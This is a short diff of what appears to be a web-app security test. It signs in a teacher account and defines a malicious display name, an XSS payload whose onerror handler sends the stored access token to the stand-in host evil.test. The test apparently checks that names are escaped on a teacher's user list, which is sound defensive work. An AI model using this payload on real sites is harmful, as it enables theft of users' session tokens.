@@ -14,7 +14,7 @@ const { request, collections } = api;
 const teacher = await signInAccount(api, { teacher: true });
 
 /** What a stranger enters as the own name, for the page of a teacher who looks at the list of users. */
-const markup = '<img src=x onerror="fetch(`//evil.test/${localStorage[`access-token`]}`)">';
+const markup = `<img src=x onerror="fetch('//evil.test/' + localStorage['access-token'])">`;
 
 /** The ways in which somebody chooses the own name. */
 const ways: [
